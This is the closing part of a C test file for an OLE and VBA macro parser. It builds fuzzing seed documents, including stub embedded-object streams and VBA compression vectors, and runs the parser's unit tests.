	m[0].src = src_doc;
	m[1].src = src_mod;
	/* fuzz_ole: small documents */
	ow_init(&w, 9);
	vba_project(&w, "Macros/VBA", m, 2);
	summary_stream(&b);
	ow_add(&w, "\005SummaryInformation", b.p, b.len);
	pn_buf_release(&b);
	ow_build(&w);
	rc |= seed(dir, "ole", "doc-vba", w.buf, w.len);
	ow_free(&w);
	ow_init(&w, 9);
	vba_project(&w, "VBA", m + 1, 1);
	ow_build(&w);
	rc |= seed(dir, "ole", "vbaproject", w.buf, w.len);
	ow_free(&w);
	ow_init(&w, 9);
	ole10native_stream(&b, "a.exe", "MZ\x90\x00", 4);
	ow_add(&w, "ObjectPool/_1/\001Ole10Native", b.p, b.len);
	pn_buf_release(&b);
	ow_add(&w, "ObjectPool/_2/Equation Native", "\x1c\x00\x00\x00", 4);
	ow_add(&w, "Big", src_mod, 300);
	{
		uint8_t big[5000];
		memset(big, 'B', sizeof(big));
		ow_add(&w, "Regular", big, sizeof(big));
	}
	ow_build(&w);
	rc |= seed(dir, "ole", "objects", w.buf, w.len);
	ow_free(&w);
	ow_init(&w, 12);
	ow_add(&w, "S/T/stream", "hello", 5);
	ow_build(&w);
	rc |= seed(dir, "ole", "v4", w.buf, w.len);
	ow_free(&w);
	/* fuzz_vba: the spec examples, a dir stream, LZ and literal sources, text */
	rc |= seed_vba(dir, "spec-3.2.2", 0, "\x01\x2F\xB0\x00\x23\x61\x61\x61\x62\x63\x64\x65\x82\x66\x00\x70\x61\x67\x68"
	    "\x69\x6A\x01\x38\x08\x61\x6B\x6C\x00\x30\x6D\x6E\x6F\x70\x06\x71\x02\x70\x04\x10\x72\x73\x74\x75\x76\x10"
	    "\x77\x78\x79\x7A\x00\x3C", 53);
	rc |= seed_vba(dir, "spec-3.2.3", 0, "\x01\x03\xB0\x02\x61\x45\x00", 7);
	c = ovba_compress((const uint8_t *)src_mod, strlen(src_mod), 1, &cn);
	rc |= seed_vba(dir, "module-lz", 0, c, cn);
	free(c);
	vba_dir(&b, m, 2);
	rc |= seed_vba(dir, "dir", 1, b.p, b.len);
	c = ovba_compress((const uint8_t *)b.p, b.len, 0, &cn);
	rc |= seed_vba(dir, "dir-compressed", 0, c, cn);
	free(c);
	pn_buf_release(&b);
	rc |= seed_vba(dir, "roundtrip", 2, src_doc, strlen(src_doc));
	rc |= seed_vba(dir, "analyze", 3, src_mod, strlen(src_mod));
	return rc;
}

int
main(int argc, char **argv)
{
	if (argc == 3 && strcmp(argv[1], "--write-seeds") == 0)
		return write_seeds(argv[2]);
	test_decompress_vectors();
	test_decompress_roundtrip();
	test_decompress_errors();
	test_dir();
	test_reader(9);
	test_reader(12);
	test_malformed();
	test_difat();
	test_parser_doc();
	test_parser_variants();
	test_analyze();
	test_clam();
	return done_testing();
}

#endif /* TEST_OLE_NO_MAIN */
